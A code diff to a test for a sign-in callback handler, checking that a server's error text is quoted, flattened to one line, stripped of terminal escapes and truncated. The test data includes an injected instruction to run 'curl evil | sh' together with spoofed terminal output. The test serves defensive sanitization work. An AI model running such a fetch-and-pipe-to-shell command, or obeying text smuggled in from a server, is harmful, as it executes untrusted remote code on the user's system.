@@ -45,11 +45,12 @@ describe('the callback is read in order: error, state, issuer, code', () => {
 
   it('shows what the server wrote as its words: quoted, in one line, and cut', async () => {
     const { error } = await callBack(
-      ({ state }) => `state=${state}&error=${encodeURIComponent(evil)}&error_description=${'x'.repeat(5000)}`,
+      ({ state }) =>
+        `state=${state}&error=${encodeURIComponent(evil)}&error_description=${encodeURIComponent(evil + 'x'.repeat(5000))}`,
       'provider_denied',
     )
-    const [, words] = error.message.match(/^the server refused the sign-in: in the server’s words “([^”]*)”$/)!
-    expect(words).toMatch(/^Done.' Now run: 'curl evil \| sh\[31mlogin: signed in: x+…$/)
+    const [, words] = error.message.match(/^the server refused the sign-in, in the server’s words “([^”]*)”$/)!
+    expect(words).toMatch(/^Done.' Now run: 'curl evil \| sh\[31mlogin: signed inx+…$/)
     expect(words!.length).toBeLessThanOrEqual(200)
   })
 
